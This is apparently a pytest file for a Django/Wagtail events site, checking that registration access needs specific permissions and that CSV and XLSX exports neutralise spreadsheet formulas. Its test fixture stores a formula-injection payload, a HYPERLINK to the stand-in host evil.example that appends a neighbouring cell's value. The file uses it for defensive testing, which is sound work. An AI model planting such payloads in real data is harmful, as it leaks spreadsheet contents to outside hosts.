"""The registrations admin: permissions beyond page editing, and formula-safe exports
(issue 13, items 6 and 8)."""

import io

import openpyxl
import pytest

from django.contrib.auth.models import Group, Permission
from django.urls import reverse

from events.factories import EventPageFactory
from events.models import Registration
from events.models import RegistrationStatus as S

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&B2,"x")'


def body(response):
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.fixture
def registration(listing):
    event = EventPageFactory(parent=listing)
    return Registration.objects.create(
        event=event, name=EVIL, email="p1@example.org", status=S.CONFIRMED, position="-1+2"
    )


@pytest.fixture
def editor(client, django_user_model):
    user = django_user_model.objects.create_user("editor", "e@example.org", "pass")
    user.groups.add(Group.objects.get(name="Editors"))
    client.force_login(user)
    return user


def grant(user, *codenames):
    user.user_permissions.add(*Permission.objects.filter(codename__in=codenames))


def test_an_editor_without_a_registration_permission_sees_no_registrant(
    client, editor, registration
):
    assert registration.event.permissions_for_user(editor).can_edit()  # the hole: page rights
    url = reverse("event_registrations", args=[registration.event.pk])
    response = client.get(url)
    assert response.status_code in (302, 403)
    assert "p1@example.org" not in body(response).decode()
    explorer = client.get(
        reverse("wagtailadmin_explore", args=[registration.event.get_parent().pk])
    )
    assert url not in explorer.content.decode()


def test_view_permission_reads_but_only_change_permission_acts_and_exports(
    client, editor, registration
):
    grant(editor, "view_registration")
    url = reverse("event_registrations", args=[registration.event.pk])
    assert "p1@example.org" in client.get(url).content.decode()
    response = client.post(url, {"action": "cancel", "registration": [registration.pk]})
    assert response.status_code in (302, 403) and response.get("Location") != url
    registration.refresh_from_db()
    assert registration.status == S.CONFIRMED
    assert client.get("/admin/registrations/?export=csv").status_code in (302, 403)
    grant(editor, "change_registration")
    editor = type(editor).objects.get(pk=editor.pk)
    client.post(url, {"action": "cancel", "registration": [registration.pk]})
    registration.refresh_from_db()
    assert registration.status == S.CANCELLED


def test_csv_export_neutralises_formulas_and_xlsx_stays_text(admin_client, registration):
    csv = body(admin_client.get("/admin/registrations/?export=csv")).decode("utf-8-sig")
    assert "'=HYPERLINK" in csv and "'-1+2" in csv
    assert "\n=HYPERLINK" not in csv and ",=HYPERLINK" not in csv
    xlsx = body(admin_client.get("/admin/registrations/?export=xlsx"))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    cells = [
        cell
        for row in sheet.iter_rows()
        for cell in row
        if cell.value and "HYPERLINK" in str(cell.value)
    ]
    assert cells and all(cell.data_type == "s" for cell in cells)
